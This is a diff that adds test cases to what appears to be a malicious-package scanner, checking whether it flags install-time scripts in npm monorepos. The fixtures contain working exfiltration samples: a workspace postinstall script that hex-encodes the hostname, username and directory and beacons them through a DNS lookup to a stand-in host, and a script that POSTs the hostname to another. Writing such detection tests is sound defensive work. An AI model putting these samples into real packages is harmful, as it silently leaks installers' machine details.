@@ -3414,3 +3414,42 @@ fs.writeFileSync(path.join(os.homedir(), 'Library', 'LaunchAgents', 'com.apple.s
     expect(threatsOf(found)).toContain('malicious_code');
   });
 });
+
+describe('workspace scripts run by the root install hook (round 32)', () => {
+  it("a postinstall that runs every workspace's postinstall, one of which beacons host details", () => {
+    const found = analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'contoso-build',
+        version: '42.0.2',
+        workspaces: ['packages/*'],
+        scripts: { postinstall: 'npm run postinstall --workspaces --if-present' },
+      }),
+      'packages/env-check/package.json': JSON.stringify({
+        name: 'contoso-env-check',
+        private: true,
+        scripts: { postinstall: 'node ./setup.js' },
+      }),
+      'packages/env-check/setup.js': `const os = require('os'), dns = require('dns');
+const id = Buffer.from([os.hostname(), os.userInfo().username, process.cwd()].join('|')).toString('hex').slice(0, 60);
+dns.lookup(id + '.t.example-contoso.net', () => {});`,
+    });
+    expect(found.risk_level).toBe('critical');
+    expect(found.evidence.some((f) => f.rule === 'js.exfil-fingerprint' && f.install_time)).toBe(true);
+  });
+  it('quiet: a monorepo whose workspaces have scripts the root install never runs', () => {
+    const found = analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'forms',
+        version: '1.0.0',
+        workspaces: ['packages/*'],
+        scripts: { prepare: 'echo ready' },
+      }),
+      'packages/core/package.json': JSON.stringify({
+        name: 'forms-core',
+        scripts: { postinstall: 'node ./report.js' },
+      }),
+      'packages/core/report.js': `const os = require('os'); require('https').request({ host: 'stats.example-forms.net', method: 'POST' }).end(os.hostname());`,
+    });
+    expect(found.evidence.some((f) => f.install_time && 'threat_type' in f)).toBe(false);
+  });
+});
